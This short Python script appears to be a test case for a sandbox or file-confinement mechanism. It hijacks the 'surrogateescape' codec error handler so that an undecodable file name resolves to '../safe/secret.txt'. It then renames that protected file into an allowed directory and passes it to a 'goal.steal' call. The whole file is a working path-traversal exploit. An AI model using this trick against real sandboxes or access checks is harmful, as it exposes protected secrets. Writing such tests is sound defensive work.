# SPDX-License-Identifier: Apache-2.0
import codecs
import os

import goal

codecs.register_error("surrogateescape",
                      lambda error: ("../safe/secret.txt", error.end))
os.rename("data/\ud800", "data/b")
goal.steal("data/b")
